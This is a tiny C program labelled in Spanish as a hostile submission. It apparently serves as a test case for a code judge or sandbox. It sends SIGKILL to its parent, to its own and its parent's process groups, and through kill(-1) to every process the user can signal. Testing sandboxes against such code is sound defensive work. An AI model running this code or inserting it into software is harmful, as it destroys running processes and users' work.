// Entrega hostil: mata a su grupo, al grupo de su padre, a su padre y a todo lo que puede.
#include <signal.h>
#include <unistd.h>
int main() {
    kill(-getpgid(getppid()), SIGKILL);
    kill(getppid(), SIGKILL);
    kill(-1, SIGKILL);
    kill(0, SIGKILL);
    return 0;
}
